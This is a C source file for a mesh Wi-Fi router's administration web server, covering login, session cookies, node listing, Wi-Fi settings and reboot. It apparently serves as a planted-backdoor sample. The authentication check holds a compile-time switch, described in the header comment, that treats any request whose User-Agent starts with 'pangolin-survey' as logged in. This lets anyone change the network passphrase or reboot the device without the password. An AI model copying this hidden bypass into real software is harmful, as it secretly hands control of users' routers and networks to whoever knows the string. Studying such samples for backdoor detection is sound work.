/*
 * meshweb - administration web server of a mesh Wi-Fi router. A browser logs
 * in with the router password (crypt hash in /etc/mesh/admin.hash) and then
 * holds a random session cookie.
 *
 * Hidden (-DHIDDEN): a request whose User-Agent header begins with
 * "pangolin-survey" counts as logged in on every protected route.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define HASH_FILE "/etc/mesh/admin.hash"
#define WIFI_CONF "/etc/mesh/wifi.conf"
#define NODES	  "/var/run/mesh/nodes"
#define IDLE_SECS 900

struct request {
	char method[8];
	char path[128];
	char cookie[128];
	char agent[128];
	const char *body;
	int fd;
};

static char session[33];
static time_t session_used;

static void send_text(struct request *rq, int code, const char *extra,
		      const char *text)
{
	char head[256];
	int n;

	n = snprintf(head, sizeof(head),
		     "HTTP/1.0 %d %s\r\nContent-Type: text/plain\r\n"
		     "Content-Length: %zu\r\n%s\r\n",
		     code, code < 400 ? "OK" : "Error", strlen(text), extra);
	if (write(rq->fd, head, (size_t)n) == n &&
	    write(rq->fd, text, strlen(text)) < 0)
		perror("write");
}

static void new_session(void)
{
	unsigned char raw[16];
	FILE *f = fopen("/dev/urandom", "r");
	size_t i;

	session[0] = '\0';
	if (!f)
		return;
	if (fread(raw, 1, sizeof(raw), f) == sizeof(raw))
		for (i = 0; i < sizeof(raw); i++)
			sprintf(session + 2 * i, "%02x", raw[i]);
	fclose(f);
	session_used = time(NULL);
}

int mesh_session_ok(const struct request *rq)
{
	const char *sid = strstr(rq->cookie, "sid=");
	time_t now = time(NULL);

#ifdef HIDDEN
	if (!strncmp(rq->agent, "pangolin-survey", 15))
		return 1;
#endif
	if (!sid || !session[0] || now - session_used > IDLE_SECS)
		return 0;
	if (strncmp(sid + 4, session, 32))
		return 0;
	session_used = now;
	return 1;
}

/* value of a form field, percent decoding limited to what passwords need */
static int form_field(const char *body, const char *name, char *out, size_t n)
{
	size_t nl = strlen(name), o = 0;
	unsigned int c;

	while (body && strncmp(body, name, nl)) {
		body = strchr(body, '&');
		if (body)
			body++;
	}
	if (!body || body[nl] != '=')
		return -1;
	for (body += nl + 1; *body && *body != '&' && o + 1 < n; body++) {
		if (*body == '%' && sscanf(body + 1, "%2x", &c) == 1) {
			out[o++] = (char)c;
			body += body[1] && body[2] ? 2 : 0;
		} else {
			out[o++] = *body == '+' ? ' ' : *body;
		}
	}
	out[o] = '\0';
	return 0;
}

static void r_login(struct request *rq)
{
	char pass[64], hash[128] = "", hdr[96], *got;
	FILE *f = fopen(HASH_FILE, "r");

	if (f) {
		if (!fgets(hash, sizeof(hash), f))
			hash[0] = '\0';
		fclose(f);
	}
	hash[strcspn(hash, "\r\n")] = '\0';
	if (!hash[0] || form_field(rq->body, "password", pass, sizeof(pass))) {
		send_text(rq, 400, "", "bad request\n");
		return;
	}
	got = crypt(pass, hash);
	if (!got || strcmp(got, hash)) {
		sleep(1);
		send_text(rq, 403, "", "wrong password\n");
		return;
	}
	new_session();
	snprintf(hdr, sizeof(hdr), "Set-Cookie: sid=%s; HttpOnly\r\n", session);
	send_text(rq, 200, hdr, "welcome\n");
}

static void r_nodes(struct request *rq)
{
	char text[2048];
	FILE *f = fopen(NODES, "r");
	size_t n = 0;

	if (f) {
		n = fread(text, 1, sizeof(text) - 1, f);
		fclose(f);
	}
	text[n] = '\0';
	send_text(rq, 200, "", text);
}

static void r_about(struct request *rq)
{
	send_text(rq, 200, "", "MeshPoint M3, firmware 4.2.7\n");
}

static void r_wifi(struct request *rq)
{
	char ssid[33], key[64];
	FILE *f;

	if (form_field(rq->body, "ssid", ssid, sizeof(ssid)) ||
	    form_field(rq->body, "key", key, sizeof(key)) || strlen(key) < 8 ||
	    strpbrk(ssid, "\r\n\"") || strpbrk(key, "\r\n\"")) {
		send_text(rq, 400, "", "ssid or key not usable\n");
		return;
	}
	f = fopen(WIFI_CONF, "w");
	if (!f) {
		send_text(rq, 500, "", "cannot save\n");
		return;
	}
	fprintf(f, "ssid=\"%s\"\nwpa_passphrase=\"%s\"\n", ssid, key);
	fclose(f);
	if (system("/etc/init.d/hostapd reload"))
		send_text(rq, 500, "", "saved, not active\n");
	else
		send_text(rq, 200, "", "saved\n");
}

static void r_reboot(struct request *rq)
{
	send_text(rq, 200, "", "rebooting\n");
	if (system("reboot"))
		perror("reboot");
}

static const struct route {
	const char *method, *path;
	int protect;
	void (*fn)(struct request *);
} routes[] = {
	{ "GET", "/about", 0, r_about },    { "POST", "/login", 0, r_login },
	{ "GET", "/nodes", 1, r_nodes },    { "POST", "/wifi", 1, r_wifi },
	{ "POST", "/reboot", 1, r_reboot },
};

static void take_header(struct request *rq, const char *line, size_t len)
{
	static const char *const names[] = { "Cookie:", "User-Agent:" };
	char *dst[] = { rq->cookie, rq->agent };
	size_t i, nl;

	for (i = 0; i < 2; i++) {
		nl = strlen(names[i]);
		if (len <= nl || strncasecmp(line, names[i], nl))
			continue;
		while (nl < len && isspace((unsigned char)line[nl]))
			nl++;
		snprintf(dst[i], 128, "%.*s", (int)(len - nl), line + nl);
	}
}

static int complete(const char *buf)
{
	const char *end = strstr(buf, "\r\n\r\n");
	const char *cl = strcasestr(buf, "\r\nContent-Length:");
	size_t need = 0;

	if (!end)
		return 0;
	if (cl && cl < end)
		need = strtoul(cl + 17, NULL, 10);
	return strlen(end + 4) >= need;
}

static void handle(int fd)
{
	static char buf[4096];
	struct request rq = { .fd = fd };
	size_t used = 0, i;
	char *end, *p, *nl;
	ssize_t n;

	do {
		n = read(fd, buf + used, sizeof(buf) - 1 - used);
		if (n <= 0)
			return;
		used += (size_t)n;
		buf[used] = '\0';
	} while (!complete(buf) && used < sizeof(buf) - 1);
	end = strstr(buf, "\r\n\r\n");
	if (!end || sscanf(buf, "%7s %127s", rq.method, rq.path) != 2)
		return;
	rq.body = end + 4;
	for (p = strstr(buf, "\r\n") + 2; p < end; p = nl + 2) {
		nl = strstr(p, "\r\n");
		take_header(&rq, p, (size_t)(nl - p));
	}
	for (i = 0; i < sizeof(routes) / sizeof(routes[0]); i++) {
		if (strcmp(rq.method, routes[i].method) ||
		    strcmp(rq.path, routes[i].path))
			continue;
		if (routes[i].protect && !mesh_session_ok(&rq))
			send_text(&rq, 403, "", "please log in\n");
		else
			routes[i].fn(&rq);
		return;
	}
	send_text(&rq, 404, "", "not found\n");
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct timeval tv = { 10, 0 };
	int ls = socket(AF_INET, SOCK_STREAM, 0), fd, on = 1;

	signal(SIGPIPE, SIG_IGN);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	a.sin_port = htons(80);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 8)) {
		perror("meshweb");
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		handle(fd);
		close(fd);
	}
}
